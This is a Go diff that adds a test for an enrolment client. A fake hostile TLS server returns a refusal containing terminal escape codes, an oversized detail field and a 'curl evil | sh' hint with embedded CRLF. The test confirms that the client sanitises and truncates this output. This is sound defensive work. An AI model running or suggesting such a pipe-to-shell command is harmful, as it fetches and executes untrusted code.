@@ -9,6 +9,8 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"net/netip"
 	"slices"
 	"strings"
@@ -342,4 +344,19 @@ func FuzzATokenIsItsText(f *testing.F) {
 			t.Errorf("got %q out of %q", token.Reveal(), text)
 		}
 	})
+}
+
+// Whoever answers a first contact is not believed, and what he says does not drive a terminal.
+func TestARefusalIsFitForATerminal(t *testing.T) {
+	evil := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.Header().Set("Content-Type", "application/problem+json")
+		w.WriteHeader(http.StatusTeapot)
+		_ = json.NewEncoder(w).Encode(map[string]string{"detail": "\x1b[2J" + strings.Repeat("x", 10000), "hint": "curl evil\r\n| sh"})
+	}))
+	defer evil.Close()
+	_, err := enrolment.Pin(t.Context(), evil.URL, [32]byte{})
+	refused, ok := errors.AsType[*enrolment.Refusal](err)
+	if !ok || strings.ContainsAny(refused.Detail+refused.Hint, "\x1b\r\n") || len(refused.Detail) > 600 {
+		t.Errorf("got %q", err)
+	}
 }
